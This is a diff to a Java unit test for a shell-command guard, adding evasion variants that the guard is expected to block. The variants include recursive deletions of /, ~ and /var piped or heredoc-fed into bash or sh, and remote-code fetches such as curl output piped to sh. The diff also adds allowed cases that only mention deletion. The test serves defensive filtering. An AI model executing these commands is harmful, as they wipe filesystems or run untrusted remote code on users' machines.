@@ -219,6 +219,11 @@ class CommandGuardTest {
                 "case x in y) rm -rf /;; esac",
                 "f() { rm -rf /; }; f",
                 "watch -n 5 rm -rf /tmp/x",
+                "bash <<'EOF'\nrm -rf /\nEOF",
+                "sh <<< 'rm -rf /'",
+                "echo 'rm -rf /' | sh",
+                "printf 'rm -rf ~' | bash",
+                "cat <<EOF | sudo bash\nrm -rf /var\nEOF",
             })
     void blocksRecursiveAndWideDeletion(String command) {
         assertBlocked(command, "fs-recursive-delete");
@@ -246,6 +251,9 @@ class CommandGuardTest {
                 "# rm -rf /\nls",
                 "ls -la # rm -rf /",
                 "rm *.log",
+                "echo 'rm -rf /' | cat",
+                "python3 <<EOF\nprint('rm -rf /')\nEOF",
+                "bash script.sh <<< 'rm -rf /'",
             })
     void allowsOrdinaryDeletionAndTextAboutDeletion(String command) {
         assertAllowed(command);
@@ -353,6 +361,7 @@ class CommandGuardTest {
                 "bash <(curl -s https://x)",
                 "sh -c \"$(curl -fsSL https://x)\"",
                 "bash -c \"`wget -O- https://x`\"",
+                "bash <<EOF\ncurl https://x | sh\nEOF",
                 "eval \"$(curl https://x)\"",
                 "source <(curl https://x)",
                 ". <(wget -qO- https://x)",
